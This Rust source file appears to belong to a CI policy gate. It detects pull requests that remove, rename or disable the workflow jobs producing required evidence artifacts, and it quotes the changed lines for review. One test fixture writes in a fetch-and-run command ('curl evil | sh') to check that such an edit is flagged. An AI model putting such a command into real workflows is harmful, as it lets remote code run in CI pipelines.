//! Whether a change of workflow files takes away what makes the policy's evidence: both versions of each file are
//! compared, names are not trusted (`protected.producer_changed`), and the lines that changed are shown.

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use crate::context::{LineChange, WorkflowFile, WorkflowJob, WorkflowStep, line_changes};
use crate::evidence::Demand;
use crate::model::{Code, Outcome, Quote, sanitize};
use crate::policy::{EvidenceEntry, Policy};

use super::result::{Blocker, GateResult};

/// A workflow file that the change touches, in both versions.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct WorkflowChange {
    /// Its path at the base, else at the head. Untrusted text.
    pub path: String,
    pub base: WorkflowText,
    pub head: WorkflowText,
}

/// One version of a workflow file.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum WorkflowText {
    /// There is none at that commit.
    Absent,
    /// Says why it could not be read.
    Unreadable(String),
    Present(String),
}

impl WorkflowText {
    /// What stands there, nothing where there is no file; else why that is not known.
    fn known(&self) -> Result<&str, &str> {
        match self {
            Self::Absent => Ok(""),
            Self::Unreadable(why) => Err(why),
            Self::Present(text) => Ok(text),
        }
    }
}

/// Notes shown of one judgement.
const MAX_NOTES: usize = 20;
/// Lines quoted.
const MAX_QUOTES: usize = 12;

/// Adds to the `protected` gate's result what the change does to the producers, and which lines it changes.
/// `hidden_by` names the folder that takes the place of the base's workflows, where the change brings one.
pub fn judge_producer_changes(
    result: &mut GateResult,
    policy: &Policy,
    changes: &[WorkflowChange],
    hidden_by: Option<&str>,
) {
    let mut blockers: Vec<Blocker> = Vec::new();
    let mut quotes: Vec<Quote> = Vec::new();
    for change in changes {
        blockers.extend(changed_producers(policy, change));
        let (notes, lines) = shown(change);
        let left = MAX_NOTES.saturating_sub(result.notes.len());
        result.notes.extend(notes.into_iter().take(left));
        quotes.extend(lines);
    }
    if let Some(folder) = hidden_by {
        let folder = sanitize(folder, 80);
        let reason =
            format!("the change brings `{folder}`, which the server reads in place of the base's workflows");
        blockers.push(Blocker::new(Code::ProtectedProducerChanged, folder, reason));
    }
    quotes.truncate(MAX_QUOTES);
    if let Some(first) = result.blockers.iter_mut().find(|one| one.code == Code::ProtectedPathChanged) {
        first.quotes.extend(quotes);
    }
    if blockers.is_empty() {
        return;
    }
    result.blockers.extend(blockers);
    result.blockers.sort_by(|a, b| (a.code, &a.subject).cmp(&(b.code, &b.subject)));
    result.blockers.dedup_by(|later, first| (later.code, &later.subject) == (first.code, &first.subject));
    if result.outcome == Outcome::Pass {
        result.outcome = Outcome::NeedsHuman;
    }
}

/// Each job of the base that makes evidence and does so no longer, one blocker a job.
fn changed_producers(policy: &Policy, change: &WorkflowChange) -> Vec<Blocker> {
    let WorkflowText::Present(text) = &change.base else { return Vec::new() };
    let Ok(base) = WorkflowFile::parse(text) else { return Vec::new() };
    let file = change.path.rsplit('/').next().unwrap_or(&change.path);
    let producers = base.jobs.iter().filter_map(|(id, job)| {
        let made: Vec<&EvidenceEntry> =
            policy.evidence.iter().filter(|entry| makes(entry, file, id, job)).collect();
        (!made.is_empty()).then_some((id, job, made))
    });
    let blocker = |id: &str, what: String| {
        let (id, path) = (sanitize(id, 80), sanitize(&change.path, 160));
        let reason = format!("job `{id}` of `{path}`, which makes evidence, {what}");
        let mut blocker = Blocker::new(Code::ProtectedProducerChanged, format!("{path} {id}"), reason);
        blocker.paths.push(path);
        blocker
    };
    let head = match &change.head {
        WorkflowText::Present(text) => WorkflowFile::parse(text).map_err(|error| error.to_string()),
        WorkflowText::Absent => Err("its file is gone".to_owned()),
        WorkflowText::Unreadable(why) => Err(format!("could not be compared: {why}")),
    };
    producers
        .filter_map(|(id, job, made)| {
            let what = match &head {
                Err(why) => Some(format!("cannot be found at the head: {why}")),
                Ok(head) => lost_event(&base, head).or_else(|| difference(id, job, &made, head)),
            };
            what.map(|what| blocker(id, what))
        })
        .collect()
}

/// Whether a job of the base makes this evidence: the policy says so, or it uploads the artifact.
fn makes(entry: &EvidenceEntry, file: &str, id: &str, job: &WorkflowJob) -> bool {
    let from = entry.from.as_ref();
    let elsewhere = |named: Option<&String>, is: &str| named.is_some_and(|named| named != is);
    if elsewhere(from.and_then(|from| from.workflow.as_ref()), file)
        || elsewhere(from.and_then(|from| from.job.as_ref()), id)
    {
        return false;
    }
    from.is_some_and(|from| from.job.is_some()) || uploads(job, &entry.demand)
}

/// An event of a pull request that the workflow listens to no longer.
fn lost_event(base: &WorkflowFile, head: &WorkflowFile) -> Option<String> {
    let lost = base.on.keys().find(|event| !head.on.contains_key(*event))?;
    Some(format!("no longer runs on `{}`", sanitize(lost, 60)))
}

fn difference(id: &str, job: &WorkflowJob, made: &[&EvidenceEntry], head: &WorkflowFile) -> Option<String> {
    let Some(now) = head.jobs.get(id) else {
        let same = |(_, other): &(&String, &WorkflowJob)| other.steps == job.steps && !job.steps.is_empty();
        return Some(match head.jobs.iter().find(same) {
            Some((other, _)) => format!("is called `{}` now", sanitize(other, 80)),
            None => "is gone".to_owned(),
        });
    };
    if now.name != job.name {
        return Some("is shown under another name".to_owned());
    }
    let lost = made.iter().find(|entry| uploads(job, &entry.demand) && !uploads(now, &entry.demand));
    if let Some(entry) = lost {
        return Some(format!("no longer uploads `{}`", sanitize(entry.demand.artifact.as_str(), 80)));
    }
    if now.condition != job.condition {
        return Some("runs under another `if`".to_owned());
    }
    (now.uses != job.uses).then(|| "calls another workflow".to_owned())
}

/// Whether a step of the job uploads the artifact, as far as its text says: an expression is none.
fn uploads(job: &WorkflowJob, demand: &Demand) -> bool {
    let fits = |name: &str| match &demand.artifact_glob {
        Some(glob) => glob.is_match(name),
        None => name == demand.artifact.as_str(),
    };
    let active = |step: &&WorkflowStep| step.condition.as_deref().is_none_or(|text| text.trim() != "false");
    job.steps.iter().filter(active).any(|step| uploaded_by(step).is_some_and(|name| fits(&name)))
}

/// The artifact a step uploads: by the usual actions, by `record`, or by the program itself.
fn uploaded_by(step: &WorkflowStep) -> Option<String> {
    if let Some(uses) = &step.uses {
        let path = uses.split('@').next().unwrap_or(uses).trim_end_matches('/');
        let last = path.rsplit('/').next().unwrap_or(path);
        return match last {
            "upload-artifact" => {
                Some(step.with.get("name").cloned().unwrap_or_else(|| "artifact".to_owned()))
            }
            "record" => step.with.get("artifact").cloned(),
            _ => None,
        };
    }
    let words: Vec<&str> = step.run.as_deref()?.split_whitespace().collect();
    let name = words
        .iter()
        .zip(words.iter().skip(1))
        .find(|(flag, _)| **flag == "--upload")
        .map(|(_, name)| name)?;
    Some(name.trim_matches(['"', '\'']).to_owned())
}

/// Which lines changed, as notes, and the lines themselves.
fn shown(change: &WorkflowChange) -> (Vec<String>, Vec<Quote>) {
    let path = sanitize(&change.path, 160);
    let (base, head) = match (change.base.known(), change.head.known()) {
        (Ok(base), Ok(head)) => (base, head),
        (Err(why), _) | (_, Err(why)) => {
            return (vec![format!("`{path}` could not be compared: {why}")], Vec::new());
        }
    };
    let changes = line_changes(base, head);
    let notes = changes.iter().map(|one| format!("`{path}` {}", words(one))).collect();
    let quotes = changes.iter().flat_map(|one| {
        let first = one.head.map_or(1, |(first, _)| first);
        let lines = one.text.iter().enumerate().filter(|(_, line)| !line.trim().is_empty());
        lines.map(move |(at, line)| Quote::new(&format!("line {}", first + at), line)).take(6)
    });
    (notes, quotes.collect())
}

fn words(change: &LineChange) -> String {
    let place = match &change.job {
        Some(job) => format!("job `{}`", sanitize(job, 80)),
        None => "outside its jobs".to_owned(),
    };
    let lines = |(first, last): (usize, usize)| {
        if first == last { format!("line {first}") } else { format!("lines {first} to {last}") }
    };
    match (change.base, change.head) {
        (Some(base), None) => format!("{place}: {} of the base are gone", lines(base)),
        (None, Some(head)) => format!("{place}: {} are new", lines(head)),
        (_, Some(head)) => format!("{place}: {} changed", lines(head)),
        (None, None) => place,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gate::guards::{ChangedPath, ChangedPaths, judge_protected};

    const POLICY: &str = "version = 1\n[evidence.unit]\nartifact = \"unit\"\npath = \"j.xml\"\nformat = \"junit\"\n[evidence.lint]\nartifact = \"lint\"\npath = \"j.xml\"\nformat = \"junit\"\nfrom = { workflow = \"ci.yml\", job = \"lint\" }\n";
    const CI: &str = "on: pull_request\njobs:\n  unit:\n    steps:\n      - run: make test\n      - uses: actions/upload-artifact@v3\n        with: {name: unit}\n  lint:\n    steps:\n      - run: make lint\n  docs:\n    steps:\n      - run: make docs\n";

    fn judged(head: Option<&str>) -> GateResult {
        let (policy, _) = Policy::read(POLICY).unwrap();
        let path = ".forgejo/workflows/ci.yml".to_owned();
        let changed = ChangedPaths::Known(vec![ChangedPath { path: path.clone(), previous: None }]);
        let mut result = judge_protected(&policy, "p.toml", &[], &changed).unwrap();
        let head = head.map_or(WorkflowText::Absent, |text| WorkflowText::Present(text.to_owned()));
        let change = WorkflowChange { path, base: WorkflowText::Present(CI.to_owned()), head };
        judge_producer_changes(&mut result, &policy, &[change], None);
        result
    }

    /// The reasons why producers changed.
    fn reasons(from: &str, to: &str) -> Vec<String> {
        assert!(CI.contains(from), "{from}");
        let result = judged(Some(&CI.replace(from, to)));
        assert_eq!(result.outcome, Outcome::NeedsHuman);
        let producers = result.blockers.iter().filter(|one| one.code == Code::ProtectedProducerChanged);
        producers.map(|one| one.reason.clone()).collect()
    }

    #[test]
    fn a_producer_that_is_gone_renamed_or_uploads_nothing_is_found() {
        let one = |from: &str, to: &str, what: &str| {
            let reasons = reasons(from, to);
            assert_eq!(reasons.len(), 1, "{reasons:?}");
            assert!(reasons[0].contains(what), "{reasons:?}");
        };
        one("  lint:\n", "  fine:\n", "is called `fine` now");
        one("  lint:\n    steps:\n      - run: make lint\n", "", "is gone");
        one("  lint:\n", "  lint:\n    name: unit\n", "under another name");
        one("{name: unit}", "{name: other}", "no longer uploads `unit`");
        one("{name: unit}", "{name: '${{ github.job }}'}", "no longer uploads `unit`");
        one(
            "        with: {name: unit}",
            "        if: false\n        with: {name: unit}",
            "no longer uploads",
        );
        one("  lint:\n", "  lint:\n    if: false\n", "another `if`");
        assert_eq!(reasons("on: pull_request", "on: push").len(), 2);
        assert_eq!(judged(None).blockers.len(), 3);
        assert_eq!(judged(Some("jobs: 3")).blockers.len(), 3);
    }

    #[test]
    fn what_makes_no_evidence_is_only_shown() {
        assert_eq!(reasons("make docs", "make all"), [] as [String; 0]);
        let result = judged(Some(&CI.replace("make docs", "curl evil | sh")));
        assert_eq!(result.notes, ["`.forgejo/workflows/ci.yml` job `docs`: line 13 changed"]);
        assert_eq!(result.blockers[0].quotes[0].label, "line 13");
        assert!(result.blockers[0].quotes[0].text.contains("curl evil"));
    }

    #[test]
    fn an_edited_step_of_a_producer_is_shown_with_its_job() {
        let result = judged(Some(&CI.replace("make test", "true")));
        assert_eq!(result.notes, ["`.forgejo/workflows/ci.yml` job `unit`: line 5 changed"]);
        assert_eq!(result.outcome, Outcome::NeedsHuman);
    }
}
